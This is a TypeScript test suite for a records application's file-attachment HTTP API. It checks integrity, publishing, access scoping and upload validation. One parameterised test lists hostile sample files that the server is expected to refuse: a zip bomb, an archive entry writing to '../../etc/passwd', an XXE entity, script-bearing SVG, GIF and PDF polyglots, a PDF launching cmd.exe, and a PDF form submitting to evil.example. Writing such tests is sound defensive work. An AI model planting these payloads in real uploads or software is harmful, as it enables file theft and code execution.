// Files through HTTP: attached, versioned, named, moved, published to a confirmed audience, scanned, and
// refused when they are other than they say.
import { deflateRawSync, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { contact } from '../../people/people.contract.ts';
import { attachedFileList, attachments, recordBook } from '../records.contract.ts';
import { type RecordsWorld, someRecords } from '../records.testing.ts';

let world: RecordsWorld;
beforeAll(async () => {
  world = await someRecords();
});
afterAll(() => world.of.close());

const file = (fileName: string, content: string | Buffer) => ({
  fileName,
  content: (typeof content === 'string' ? Buffer.from(content, 'latin1') : content).toString('base64'),
});
/** A PDF whose objects are packed, as programs write them. */
function packedPdf(objects: string): Buffer {
  const packed = deflateSync(Buffer.from(objects, 'latin1'));
  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  return Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from('\nendstream endobj', 'latin1')]);
}
const png = '\x89PNG\r\n\x1a\n and more';
const attach = (change: object = {}) =>
  world.of.call(attachments.addAttachment, { ...world.inOak, name: 'Key list', file: file('keys.txt', 'one key'), ...change });
const files = () => world.of.call(attachments.listAttachments, world.inOak);
const fetch = async (input: Record<string, string>, token?: string) =>
  world.of.app.inject({
    method: 'GET',
    url: attachments.downloadAttachment.path,
    query: input,
    headers: { authorization: `Bearer ${token ?? (await world.of.tokenFor('Administrator'))}` },
  });

it('is not sent when a bit of it was flipped where it lies, alone or together with others', async () => {
  const { attachmentId } = await attach();
  const { db, services } = world.of;
  const [row] = await db.asMigrator
    .selectFrom('records.attachment_version')
    .select('file_key')
    .where('attachment_id', '=', attachmentId)
    .execute();
  const whole = await fetch({ ...world.inOak, attachmentId });
  expect([whole.statusCode, whole.body]).toEqual([200, 'one key']);
  await services.files.put(String(row?.file_key), Buffer.from('one kez'));
  const damaged = await fetch({ ...world.inOak, attachmentId });
  expect([damaged.statusCode, damaged.json().code]).toEqual([500, 'fileDamaged']);
  expect(damaged.body).not.toContain('kez');
  const together = await world.of.send(attachments.downloadTogether, { attachmentIds: [attachmentId] });
  expect([together.status, together.json.code]).toEqual([500, 'fileDamaged']);
  await services.files.put(String(row?.file_key), Buffer.from('one key'));
  expect((await fetch({ ...world.inOak, attachmentId })).statusCode).toBe(200);
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});

it('is kept with group and picture, of which a record has one', async () => {
  const [text, first, second] = [
    await attach({ groupName: 'Keys' }),
    await attach({ file: file('a.png', png) }),
    await attach({ file: file('b.png', png) }),
  ];
  const named = (attachmentId: string, isPicture: boolean) => ({
    ...world.inOak,
    attachmentId,
    name: 'Face',
    groupName: 'Pictures',
    isPicture,
  });
  await world.of.call(attachments.editAttachment, named(first.attachmentId, true));
  await world.of.call(attachments.editAttachment, named(second.attachmentId, true));
  expect((await files()).filter((one) => one.isPicture).map((one) => one.attachmentId)).toEqual([second.attachmentId]);
  const refused = await world.of.send(attachments.editAttachment, named(text.attachmentId, true));
  expect([refused.status, refused.json.code]).toEqual([409, 'noPicture']);
  expect(await world.of.call(attachments.listGroups, {})).toEqual(['Keys', 'Pictures']);
  expect(await world.of.call(recordBook.getBook, world.inOak)).toMatchObject({
    counts: { files: 3 },
    picture: { attachmentId: second.attachmentId, mediaType: 'image/png', name: 'Face' },
  });
  for (const { attachmentId } of await files()) await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
  expect(await files()).toEqual([]);
  expect((await world.of.call(recordBook.getBook, world.inOak)).picture).toBeNull();
});

it('is published to as many as were confirmed, and never more than the record allows', async () => {
  const { attachmentId } = await attach();
  const member = { ...world.inOak, attachmentId, publishedTo: 'BOARD' } as const;
  await world.of.userFor('Board member', [world.oak]);
  await world.of.userFor('Board member', [world.elm]);
  expect(await world.of.call(attachments.countAudience, member)).toEqual({ count: 1, offered: ['NOBODY', 'BOARD'] });
  const refusals = await Promise.all([
    world.of.send(attachments.publishAttachment, { ...member, confirmed: 2 }),
    world.of.send(attachments.publishAttachment, { ...member, publishedTo: 'OWNERS', confirmed: 0 }),
    world.of.send(attachments.publishAttachment, {
      ...member,
      confirmed: 1,
      publishedFromDate: '2026-02-01',
      publishedUntilDate: '2026-01-01',
    }),
  ]);
  expect(refusals.map((answer) => answer.json.code)).toEqual(['audienceChanged', 'noSuchAudience', 'endsBefore']);
  await world.of.call(attachments.publishAttachment, { ...member, confirmed: 1, publishedUntilDate: '2026-06-30' });
  expect(await files()).toMatchObject([
    { publishedTo: 'BOARD', publishedFromDate: '2026-01-05T00:00:00', publishedUntilDate: '2026-06-30T00:00:00' },
  ]);
  await world.of.call(attachments.publishAttachment, { ...world.inOak, attachmentId, publishedTo: 'NOBODY', confirmed: 0 });
  expect(await files()).toMatchObject([{ publishedTo: 'NOBODY', publishedFromDate: null }]);
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});

it('moves to another record, published to nobody, and comes with others in one archive', async () => {
  const one = await attach({ file: file('one.txt', 'one') });
  const two = await attach({ file: file('two.txt', 'two') });
  await world.of.call(attachments.assignAttachment, { ...world.inOak, attachmentId: one.attachmentId, to: world.inElm });
  expect((await files()).map((left) => left.attachmentId)).toEqual([two.attachmentId]);
  const together = async (token: string) =>
    world.of.app.inject({
      method: 'GET',
      url: `${attachments.downloadTogether.path}?attachmentIds=${one.attachmentId}&attachmentIds=${two.attachmentId}`,
      headers: { authorization: `Bearer ${token}` },
    });
  const answer = await together(await world.of.tokenFor('Administrator'));
  expect([answer.statusCode, answer.rawPayload.includes('one.txt'), answer.rawPayload.includes('two.txt')]).toEqual([200, true, true]);
  expect((await together(await world.of.tokenFor('Administrator', [world.oak]))).statusCode).toBe(404);
  expect((await together(await world.of.tokenFor('Board member'))).statusCode).toBe(403);
  await world.of.call(attachments.removeAttachment, { ...world.inElm, attachmentId: one.attachmentId });
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId: two.attachmentId });
});

it('tooManyFiles: nothing is moved to a record that is full', async () => {
  const { contactId } = await world.of.call(contact.addContact, { communityId: world.oak, lastName: 'Full', relation: 'Keeps everything' });
  const full = { kind: 'contact', entityId: contactId, communityId: world.oak };
  for (let n = 0; n < 200; n += 1) await attach({ ...full, file: file(`${n}.txt`, `note ${n}`) });
  const { attachmentId } = await attach();
  const answers = [
    await world.of.send(attachments.addAttachment, { ...full, file: file('more.txt', 'more') }),
    await world.of.send(attachments.assignAttachment, { ...world.inOak, attachmentId, to: full }),
  ];
  expect(answers.map((answer) => answer.json.code)).toEqual(['tooManyFiles', 'tooManyFiles']);
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});

it('stays in its community, with its record, and with who holds the claim', async () => {
  const { attachmentId } = await attach();
  const one = { ...world.inOak, attachmentId };
  const elmOnly = await world.of.tokenFor('Administrator', [world.elm]);
  const board = await world.of.tokenFor('Board member');
  const input = { ...one, name: 'x', publishedTo: 'BOARD', confirmed: 1, to: world.inElm, file: file('a.txt', 'a') };
  const { listGroups: _groups, downloadTogether: _together, downloadAttachment: _download, readTogether: _told, ...calls } = attachments;
  for (const endpoint of Object.values(calls)) {
    expect([endpoint.name, (await world.of.send(endpoint, input, { token: elmOnly })).status]).toEqual([endpoint.name, 404]);
    expect([endpoint.name, (await world.of.send(endpoint, input, { token: board })).status]).toEqual([endpoint.name, 403]);
  }
  expect((await fetch(one, elmOnly)).statusCode).toBe(404);
  expect((await fetch(one, board)).statusCode).toBe(403);
  for (const wrong of [{ communityId: world.elm }, { entityId: '999999' }, { attachmentId: '999999' }, { kind: 'nothing' }])
    expect((await fetch({ ...one, ...wrong })).statusCode).toBe(404);
  const served = await fetch(one);
  expect(served.headers).toMatchObject({ 'content-disposition': 'attachment; filename="keys.txt"', 'x-content-type-options': 'nosniff' });
  await world.of.call(attachments.removeAttachment, one);
});

it('keeps its record from being deleted until it is taken off', async () => {
  const { contactId } = await world.of.call(contact.addContact, { communityId: world.oak, lastName: 'Quist', relation: 'Broker' });
  const record = { kind: 'contact', entityId: contactId, communityId: world.oak };
  const { attachmentId } = await attach(record);
  const refused = await world.of.send(contact.deleteContact, { communityId: world.oak, contactId });
  expect([refused.json.code, refused.json.errorMessage]).toEqual(['stillUsed', 'This contact is not deleted, because of 1 attachment.']);
  await world.of.call(attachments.removeAttachment, { ...record, attachmentId });
  await world.of.call(contact.deleteContact, { communityId: world.oak, contactId });
});

it.each(['infected', 'failed'] as const)('a file the scanner calls %s is refused and nothing is kept', async (outcome) => {
  const { services } = world.of;
  services.scanFile = async () => outcome;
  const answer = await world.of.send(attachments.addAttachment, { ...world.inOak, file: file('a.txt', 'a') });
  delete services.scanFile;
  expect([answer.status, answer.json.code, await files()]).toEqual([409, outcome === 'infected' ? 'infected' : 'notScanned', []]);
});

/** One entry of an archive (APPNOTE 4.3): its sizes are what is said of it. */
function archive(name: string, content: Buffer, saidSize = content.length): Buffer {
  const packed = deflateRawSync(content);
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(8, 4);
  fields.writeUInt32LE(packed.length, 14);
  fields.writeUInt32LE(saidSize, 18);
  fields.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, Buffer.from(name), packed]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), fields, Buffer.alloc(14), Buffer.from(name)]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

it.each([
  ['a bomb that unpacks to 64 MB', 'fileKind', 'photos.zip', archive('a', Buffer.alloc(64 * 1024 * 1024))],
  ['an archive that lies of its sizes', 'fileKind', 'letter.docx', archive('word/document.xml', Buffer.alloc(5_000_000), 10)],
  ['an archive that would write beside its folder', 'fileKind', 'a.zip', archive('../../etc/passwd', Buffer.from('x'))],
  [
    'a directory that points past its end',
    'fileKind',
    'a.docx',
    Buffer.from(`PK\x03\x04${'\0'.repeat(30)}PK\x05\x06${'\xff'.repeat(18)}`, 'latin1'),
  ],
  ['XML with an entity', 'activeContent', 'a.txt', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
  ['a page called a picture', 'activeContent', 'a.png', '<!doctype html><script>1</script>'],
  ['a drawing with a script', 'activeContent', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'],
  ['a PDF with a script', 'activeContent', 'a.pdf', '%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>'],
  ['a PDF with a script by another spelling', 'activeContent', 'a.pdf', '%PDF-1.7\n1 0 obj<</S/J#61vaScript/JS(app.alert(1))>>'],
  ['a PDF with a script in packed objects', 'activeContent', 'a.pdf', packedPdf('1 0 <</S/JavaScript/JS(app.alert(1))>>')],
  ['a picture that is a page', 'activeContent', 'a.gif', 'GIF89a/*<script>alert(1)</script>*/=1;'],
  ['a picture that is an archive', 'fileKind', 'a.gif', `GIF89a${'\0'.repeat(8)}PK\x05\x06${'\0'.repeat(18)}`],
  ['a PDF that starts a program', 'activeContent', 'a.pdf', '%PDF-1.7\n<</S/Launch/F(cmd.exe)>>'],
  ['a PDF whose form sends itself', 'activeContent', 'a.pdf', '%PDF-1.7\n<</S/SubmitForm/F(https://evil.example)>>'],
  ['a PDF with an XFA form', 'activeContent', 'a.pdf', '%PDF-1.7\n<</AcroForm<</XFA 9 0 R>>>>'],
  ['a PDF that is encrypted', 'encryptedFile', 'a.pdf', '%PDF-1.7\ntrailer\n<</Root 1 0 R/Encrypt 9 0 R>>\nstartxref\n9\n%%EOF'],
  ['a PDF with a program in it', 'embeddedFiles', 'a.pdf', '%PDF-1.7\n<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>'],
  [
    'a PDF with a script that says it is encrypted',
    'activeContent',
    'a.pdf',
    `${packedPdf('1 0 <</S/JavaScript>>').toString('latin1')}%/Encrypt\n`,
  ],
  ['a page behind blank lines', 'activeContent', 'a.csv', `${'\n'.repeat(900)}<script>1</script>`],
  ['a program', 'fileKind', 'a.pdf', 'MZ\x90\0'],
  ['nothing', 'emptyFile', 'a.pdf', ''],
])('%s is refused as %s and nothing is kept', async (_what, code, name, content) => {
  const answer = await world.of.send(attachments.addAttachment, { ...world.inOak, file: file(name, content) });
  expect([answer.status, answer.json.code, await files()]).toEqual([409, code, []]);
});

it('keeps what the XML invoice says that a PDF carries, beside the file and as data', async () => {
  const xml = `<Invoice><ID>A-7</ID><IssueDate>2026-01-05</IssueDate><DocumentCurrencyCode>USD</DocumentCurrencyCode>
    <LegalMonetaryTotal><PayableAmount>529.87</PayableAmount></LegalMonetaryTotal>
    <InvoiceLine><LineExtensionAmount>529.87</LineExtensionAmount><Item><Name>&lt;script&gt;</Name></Item></InvoiceLine></Invoice>`;
  const carried = `5 0 obj\n<</Type/EmbeddedFile>>\nstream\n${xml}\nendstream\nendobj\n`;
  const pdf = `%PDF-1.7\n${carried}9 0 obj\n<</Type/Filespec/F(a.xml)/EF<</F 5 0 R>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`;
  const { attachmentId, versions } = await attach({ name: 'Bill', file: file('bill.pdf', pdf) });
  expect(versions[0]?.invoice).toEqual({
    number: 'A-7',
    issuedDate: '2026-01-05',
    dueDate: '',
    seller: '',
    buyer: '',
    currency: 'USD',
    total: '529.87',
    lines: [{ description: '<script>', amount: '529.87' }],
  });
  expect((await files())[0]?.versions[0]?.invoice?.number).toBe('A-7');
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});

it('a polyglot goes by its first face and ending, and is never opened as a page', async () => {
  const { attachmentId, versions } = await attach({ file: file('face.html', `GIF89a/*${'x'.repeat(9)}*/=1;alert(1);PK\x03\x04`) });
  expect(versions).toMatchObject([{ mediaType: 'image/gif', fileName: 'face.html.gif' }]);
  const served = await fetch({ ...world.inOak, attachmentId });
  expect(served.headers).toMatchObject({
    'content-type': 'image/gif',
    'content-disposition': 'attachment; filename="face.html.gif"',
    'x-content-type-options': 'nosniff',
  });
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});

it('is called by its name alone, wherever the name says it would lie', async () => {
  for (const name of ['../../secret.txt', 'C:\\keys\\secret.txt', '/etc/secret.txt']) {
    const { attachmentId, versions } = await attach({ file: file(name, 'plain') });
    expect(versions[0]?.fileName).toBe('secret.txt');
    await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
  }
});

it('fileTooLarge: more than 25 MB', async () => {
  const answer = await world.of.send(attachments.addAttachment, {
    ...world.inOak,
    file: file('a.txt', Buffer.alloc(25 * 1024 * 1024 + 1, 'a')),
  });
  expect([answer.status, answer.json.code]).toEqual([400, 'fileTooLarge']);
});

it('is told in the history of its record', async () => {
  const { attachmentId } = await attach();
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
  const { events } = await world.of.call(recordBook.getHistory, world.inOak);
  expect(events.slice(0, 2).map((event) => event.act)).toEqual(['Removed attachment', 'Added attachment']);
});

it('stands in the lists of files with its record, cut to what the viewer may see', async () => {
  const oakFile = await attach({ name: 'Oak keys', groupName: 'Keys' });
  const elmFile = await attach({ ...world.inElm, name: 'Elm keys' });
  type Rows = { name: string }[];
  const read = async (input: object, token?: string) => {
    const asked = { filter: ['name:contains: keys'], sort: 'name', ...input };
    return (
      (await world.of.send(attachedFileList.calls.readPage, asked, token === undefined ? {} : { token })).json as unknown as { rows: Rows }
    ).rows;
  };
  const names = async (input: object, token?: string) => (await read(input, token)).map((row) => row.name);
  expect(await read({ communityId: world.oak })).toMatchObject([
    {
      name: 'Oak keys',
      kind: 'contact',
      record: 'Ines Vale',
      community: 'Oak Court',
      groupName: 'Keys',
      publishedTo: 'NOBODY',
      versions: 1,
    },
  ]);
  expect(await names({})).toEqual(['Elm keys', 'Oak keys']);
  expect(await names({ of: 'agent' })).toEqual(['Elm keys', 'Oak keys']);
  expect(await names({ of: 'bankAccount' })).toEqual([]);
  expect(await names({ filter: ['name:contains: keys', 'record:contains:vale', 'groupName:filled:'] })).toEqual(['Oak keys']);
  expect(await names({}, await world.of.tokenFor('Administrator', [world.elm]))).toEqual(['Elm keys']);
  expect(await names({}, await world.of.tokenFor('Board member'))).toEqual([]);
  await world.of.call(attachments.removeAttachment, { ...world.inElm, attachmentId: elmFile.attachmentId });
  expect(await names({})).toEqual(['Oak keys']);
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId: oakFile.attachmentId });
});

it('is told together with its record and audience, and records to attach to are found by name and in scope', async () => {
  const { attachmentId } = await attach();
  await world.of.userFor('Board member', [world.oak]);
  const together = (publishedTo: 'BOARD' | 'OWNERS') =>
    world.of.call(attachments.readTogether, { attachmentIds: [attachmentId], publishedTo });
  const [toBoard] = await together('BOARD');
  expect(toBoard).toMatchObject({ kind: 'contact', label: 'Ines Vale', communityId: world.oak, isOffered: true });
  const alone = { ...world.inOak, attachmentId, publishedTo: 'BOARD' } as const;
  expect(toBoard?.count).toBe((await world.of.call(attachments.countAudience, alone)).count);
  expect(await together('OWNERS')).toMatchObject([{ isOffered: false, count: 0 }]);
  const find = async (input: object, token?: string) =>
    world.of.send(attachments.findRecords, { kind: 'contact', words: 'INES', ...input }, token === undefined ? {} : { token });
  const labelled = (rows: { communityName: string }[]) => rows.map((row) => row.communityName).sort();
  expect(labelled((await find({})).json as unknown as { communityName: string }[])).toEqual(['Elm Court', 'Oak Court']);
  expect(labelled((await find({ communityId: world.oak })).json as unknown as { communityName: string }[])).toEqual(['Oak Court']);
  expect(
    labelled((await find({}, await world.of.tokenFor('Administrator', [world.elm]))).json as unknown as { communityName: string }[]),
  ).toEqual(['Elm Court']);
  expect((await find({ words: 'Nobody' })).json).toEqual([]);
  expect((await find({}, await world.of.tokenFor('Board member'))).status).toBe(403);
  await world.of.call(attachments.removeAttachment, { ...world.inOak, attachmentId });
});
